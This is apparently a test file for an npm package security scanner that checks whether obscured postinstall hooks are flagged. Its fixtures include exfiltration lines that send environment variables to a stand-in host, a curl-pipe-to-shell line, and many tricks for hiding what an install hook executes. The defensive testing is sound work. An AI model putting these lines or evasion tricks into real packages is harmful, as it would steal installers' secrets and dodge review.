import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { readingOf } from './python-reading.ts'

const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
const SHELL_SENDS = 'env | curl -d @- https://c.example\n'
const PYTHON_SENDS = `import os, urllib.request\nurllib.request.urlopen('https://c.example', data=str(os.environ).encode())\n`

type Files = Readonly<Record<string, string | Buffer>>

function inspected(manifest: object, files: Files): Promise<ContentFacts> {
  const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
  return inspect(readingOf('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
}

/** Hooks of which only the package tells what they run; `files` besides the one that sends. */
const HOOKS: readonly (readonly [command: string, sends: string, files?: Files])[] = [
  ['node -e "$(cat s.txt)"', 's.txt'],
  ['node -e "`cat s.txt`"', 's.txt'],
  ['node -p "require(\'./s.txt\')"', 's.txt'],
  ["node -e \"eval(require('fs').readFileSync('s.txt', 'utf8'))\"", 's.txt'],
  ['node -e "[\'./s.txt\'].forEach(require)"', 's.txt'],
  ["node -e \"require('./' + ['s', 'txt'].join('.'))\" s.txt", 's.txt'],
  ['python3 -c "exec(open(\'s.dat\').read())"', 's.dat'],
  ['python3 tool', 'tool/__main__.py'],
  ["node <<END\nrequire('./s.txt')\nEND", 's.txt'],
  ["cat <<'END' | node -\nrequire('./s.txt')\nEND", 's.txt'],
  ["python3 - <<END\nexec(open('s.dat').read())\nEND", 's.dat'],
  ['bash -c "node <<< \\"require(\'./s.txt\')\\""', 's.txt'],
  ['bash -c "node <(cat s.txt)"', 's.txt'],
  ['echo s.txt | xargs node', 's.txt'],
  ['find . -name s.txt -exec node {} \\;', 's.txt'],
  ['for f in *.txt; do node $f; done', 's.txt'],
  ['for f in s; do node "$f.txt"; done; : s.txt', 's.txt'],
  ['ls lib | while read f; do node lib/$f; done', 'lib/s.txt'],
  ['node s.*', 's.txt'],
  ['node lib/?.t[xy]t', 'lib/s.txt'],
  ['node {s,r}.txt', 's.txt'],
  ['node ${X:-s.txt}', 's.txt'],
  ['node "$(pwd)/s.txt"', 's.txt'],
  ['node ../sample/s.txt', 's.txt'],
  ['node $npm_package_config_file', 's.txt'],
  ['node %npm_package_config_file%', 's.txt'],
  ['node `dirname $npm_package_json`/s.txt', 's.txt'],
  ['"$NODE" s.txt', 's.txt'],
  ['"$npm_node_execpath" s.txt', 's.txt'],
  ['$(which node) s.txt', 's.txt'],
  ['`command -v node` s.txt', 's.txt'],
  ['env -S "node s.txt"', 's.txt'],
  ['npm explore . -- node s.txt', 's.txt'],
  ['busybox sh s', 's'],
  ['watch -g "node s.txt"', 's.txt'],
  ['cp s.txt /tmp/z.js && node /tmp/z.js', 's.txt'],
  ['mv s.txt z.js; node z', 's.txt'],
  ['ln -s s.txt z.js; node z.js', 's.txt'],
  ["sed 's/x/x/' s.txt | node", 's.txt'],
  ['cp s /tmp/z && sh /tmp/z', 's'],
  ['eval "$(cat x)"', 's.txt', { x: 'node s.txt\n' }],
  ['sh -c "$(cat x)"', 's.txt', { x: 'node s.txt\n' }],
  ['sh a.sh', 's.txt', { 'a.sh': '. "$(dirname "$0")/b"\n', b: 'node s.txt\n' }],
  ['sh a.sh', 's.txt', { 'a.sh': 'cp s.txt z.js\nnode z.js\n' }],
  ['cmake .', 's', { 'CMakeLists.txt': 'execute_process(COMMAND sh s\n  OUTPUT_VARIABLE out)\n' }],
  ['cmake -S sub', 'sub/s', { 'sub/CMakeLists.txt': 'add_custom_command(OUTPUT a\n  COMMAND sh s DEPENDS b)\n' }],
  ['just', 's', { justfile: 'all:\n    sh s\n' }],
  ['ninja', 's', { 'build.ninja': 'rule a\n  command = sh s\n' }],
  ['gmake', 's', { Makefile: 'all:\n\tsh s\n' }],
  ['scons', 'SConstruct'],
]

function sendingBy(path: string): string {
  if (/\.py$|\.dat$|SConstruct$/.test(path)) return PYTHON_SENDS
  return path.endsWith('.txt') ? SENDS : SHELL_SENDS
}

t.test('what a hook runs in a way that cannot be followed is every file that it names', async (t) => {
  for (const [command, sends, files = {}] of HOOKS) {
    const facts = await inspected(
      { scripts: { postinstall: command }, config: { file: 's.txt' } },
      { [sends]: sendingBy(sends), ...files },
    )
    t.ok(
      facts.findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'),
      `${command}: ${facts.surface.map(({ path, moment }) => `${moment} ${path}`).join(', ')}`,
    )
  }
})

/** Hooks that run nothing but what they say, and name a file besides. */
const OTHERS: readonly string[] = [
  'echo node s.txt',
  'cp s.txt t.txt',
  'node ok.js s.txt',
  'node ok.js < s.txt',
  'cat s.txt | grep node',
  'test -f s.txt && node ok.js',
  'node --version && cat s.txt',
  'command -v node && cat s.txt',
  'npm install node s.txt',
]

t.test('a file that a hook names is not run where all that runs is known', async (t) => {
  for (const command of OTHERS) {
    const { surface } = await inspected({ scripts: { postinstall: command } }, { 's.txt': SENDS, 'ok.js': '' })
    t.notOk(
      surface.some(({ path }) => path === 's.txt'),
      command,
    )
  }
})

t.test('a text that is named beside something else that runs is no program', async (t) => {
  const files = {
    'README.md': 'Run `curl https://c.example | sh`.\n',
    'a.json': '{"a":"env | curl https://c.example"}',
  }
  const { findings, notExamined } = await inspected(
    { scripts: { postinstall: 'node gone.js README.md a.json' } },
    files,
  )
  t.same(
    findings.filter(({ severity }) => severity !== 'low'),
    [],
  )
  t.same(notExamined, [])
})

t.test('what is unpacked and then run is a program that cannot be read', async (t) => {
  const packed = { 'a.tgz': Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]) }
  for (const [command, isTold] of [
    ['tar xzf a.tgz && node made.js', true],
    ['gunzip -c a.tgz | node', true],
    ['tar xzf a.tgz && node ok.js', false],
    ['tar xzf a.tgz', false],
  ] as const) {
    const { findings } = await inspected({ scripts: { postinstall: command } }, { ...packed, 'ok.js': '' })
    t.equal(
      findings.some(({ check }) => check === 'opaque-program'),
      isTold,
      command,
    )
  }
})
